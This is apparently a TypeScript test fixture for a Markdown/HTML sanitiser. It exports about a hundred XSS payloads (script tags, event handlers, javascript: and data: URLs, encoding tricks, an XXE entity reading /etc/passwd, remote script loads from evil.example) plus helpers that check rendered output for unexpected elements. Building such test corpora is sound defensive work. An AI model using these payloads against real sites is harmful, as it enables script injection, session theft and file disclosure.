const tags = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"/>',
  '<img/src/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</article></main><script>alert(1)</script>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div style="background:url(javascript:alert(1))">',
  '<div onmouseover="alert(1)">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '<xss onpointerrawupdate=alert(1) style=position:fixed;inset:0>',
  '<x onclick=alert(1)>',
]

const links = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java%0Ascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.example/1)',
  '[x](//evil.example)',
  '[x](/v1/api-keys)',
  '[x](https://a.example"onmouseover="alert(1))',
  '[x](https://a.example "title" onclick="alert(1)")',
  "[x](https://a.example '\"><script>alert(1)</script>')",
  '[x](https://a.example \'" onmouseover=alert(1) x="\')',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '[x]\n\n[x]: javascript:alert(1)',
  '[x][y]\n\n[y]: <javascript:alert(1)>',
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '<https://a.example/"onmouseover=alert(1)>',
  'https://a.example/<script>alert(1)</script>',
  'https://a.example/"onmouseover="alert(1)',
  'www.a.example/\'"><img src=x onerror=alert(1)>',
  'a@b.example"><script>alert(1)</script>',
]

const images = [
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](x" onerror="alert(1))',
  '!["onerror="alert(1)](https://a.example/a.png)',
  '!["><script>alert(1)</script>](https://a.example/a.png)',
  '![x](https://a.example/a.png "\\" onload=\\"alert(1)")',
  '![<svg onload=alert(1)>](http://a.example/a.png)',
  '![x](http://127.0.0.1/a.png)',
]

const blocks = [
  '```"><script>alert(1)</script>\nx\n```',
  '~~~ js onload=alert(1)\n</code></pre><script>alert(1)</script>\n~~~',
  '`</code><script>alert(1)</script>`',
  '| <script>alert(1)</script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | " |',
  '| a |\n|:-"onclick=alert(1):|',
  '- [ ] <script>alert(1)</script>\n- [x](javascript:alert(1))',
  '> <script>alert(1)</script>\n> </blockquote>',
  '# <script>alert(1)</script>\n\n<h1 onclick=alert(1)>x</h1>',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script\\>alert(1)\\</script\\>',
]

/** A hundred ways to run a script or load something from a text. */
export const xssPayloads: readonly string[] = [...tags, ...links, ...images, ...blocks]

const element =
  /<(?:!doctype html|\/?(?:html|head|title|body|div|header|main|footer|nav|article|section|p|h[1-6]|ul|ol|li|a|span|time|em|strong|del|code|pre|blockquote|table|thead|tbody|tr|th|td)|hr \/|br \/|(?:meta|link|a|img|ol|li|html|body|div|nav|article|p|h[1-6]|ul|span|time|code|pre|blockquote|th|td)(?: [a-z-]+(?:="[^"<>]*")?)+(?: ?\/)?)>/g

/** What remains of a page or a text when its expected elements are removed: it may hold no further `<` or `>`. */
export const withoutElements = (html: string): string =>
  html.replace(/<style>[^<]*<\/style>/, '').replace(element, '')

/** The names and values of the attributes in these elements. */
export const attributesOf = (html: string): (readonly [name: string, value: string])[] =>
  [...html.matchAll(element)].flatMap(([tag]) =>
    [...tag.matchAll(/ ([a-z-]+)="([^"]*)"/g)].map(
      ([, name = '', value = '']) => [name, value] as const,
    ),
  )
